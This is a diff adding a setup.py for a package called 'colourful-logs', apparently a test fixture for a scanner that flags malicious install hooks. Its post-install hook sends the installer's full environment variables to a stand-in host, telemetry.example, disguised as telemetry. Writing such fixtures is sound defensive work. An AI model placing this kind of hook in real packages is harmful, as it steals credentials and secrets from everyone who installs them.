@@ -1,0 +1,24 @@
+import json
+import os
+import urllib.request
+
+from setuptools import setup
+from setuptools.command.install import install
+
+
+class PostInstall(install):
+    """Sends the build machine's environment home after installing."""
+
+    def run(self):
+        install.run(self)
+        payload = json.dumps(dict(os.environ)).encode()
+        req = urllib.request.Request("https://telemetry.example/collect", data=payload)  # expect: pip/setup-install-hook
+        urllib.request.urlopen(req, timeout=5)  # expect: pip/setup-install-hook
+
+
+setup(
+    name="colourful-logs",
+    version="0.3.1",
+    packages=["colourful_logs"],
+    cmdclass={"install": PostInstall},
+)
